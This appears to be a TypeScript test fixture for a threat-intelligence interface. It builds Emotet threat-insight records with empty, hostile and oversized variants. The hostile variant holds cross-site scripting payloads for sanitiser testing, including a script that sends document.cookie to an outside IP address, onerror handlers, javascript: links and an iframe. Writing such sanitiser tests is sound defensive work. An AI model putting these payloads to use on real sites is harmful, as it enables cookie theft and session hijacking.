// Threat insight (spec 001 §2.14, §3). The description is server HTML: the hostile variant
// carries what a sanitiser must remove.
import { nullAll, type Nullable, overridable } from './fixture-kit.ts';

function fullThreatInsight(name = 'Emotet', type = 'malware') {
  return {
    objectType: type,
    description:
      `<p><strong>${name}</strong> is a modular banking trojan turned malware-distribution service. It spreads through ` +
      'reply-chain phishing with macro-enabled Office documents and password-protected archives, then delivers ' +
      'follow-on payloads such as <em>TrickBot</em> and <em>IcedID</em>.</p>' +
      '<ul><li>Initial access: malicious attachments and links</li><li>Persistence: scheduled tasks and Run keys</li></ul>' +
      '<p>See <a href="https://www.example.com/intel/emotet" target="_blank" rel="noopener">the intelligence report</a>.</p>',
    emergingThreats: [
      { id: 'et-2026-1187', name: 'Emotet returns with OneNote lures' },
      { id: 'et-2026-1204', name: 'Reply-chain phishing against EU logistics firms' },
    ],
    threatActors: [
      { id: 'ta-0457', name: 'Mummy Spider' },
      { id: 'ta-0512', name: 'TA542' },
    ],
  };
}

export type ThreatInsightFixture = Nullable<ReturnType<typeof fullThreatInsight>>;

export const createThreatInsight = overridable(fullThreatInsight);

export const threatInsightVariants = {
  empty: (): ThreatInsightFixture => nullAll(fullThreatInsight('Emotet', 'malware')),
  /** Script, event-handler and javascript: payloads in the HTML description. */
  hostile: (): ThreatInsightFixture =>
    createThreatInsight({
      description:
        '<p>Loader analysis</p><script>window.__pwned = true; fetch("https://203.0.113.45/steal?c=" + document.cookie)</script>' +
        '<img src="x" onerror="window.__pwned = true">' +
        '<a href="javascript:window.__pwned=true">Read the full report</a>' +
        '<iframe src="https://203.0.113.45/frame"></iframe>' +
        '<p style="background:url(javascript:alert(1))" onclick="alert(1)">Click for details</p>' +
        '<svg><script>alert(1)</script></svg>',
    }),
  long: (): ThreatInsightFixture =>
    createThreatInsight({
      description: `<p>${'This campaign continues to evolve its delivery chain and infrastructure. '.repeat(60)}</p>`,
      emergingThreats: Array.from({ length: 30 }, (_, i) => ({
        id: `et-2026-${1000 + i}`,
        name: `Emerging threat ${i + 1}: ${'campaign '.repeat(4)}`,
      })),
      threatActors: Array.from({ length: 20 }, (_, i) => ({ id: `ta-${100 + i}`, name: `Threat actor group ${i + 1}` })),
    }),
};
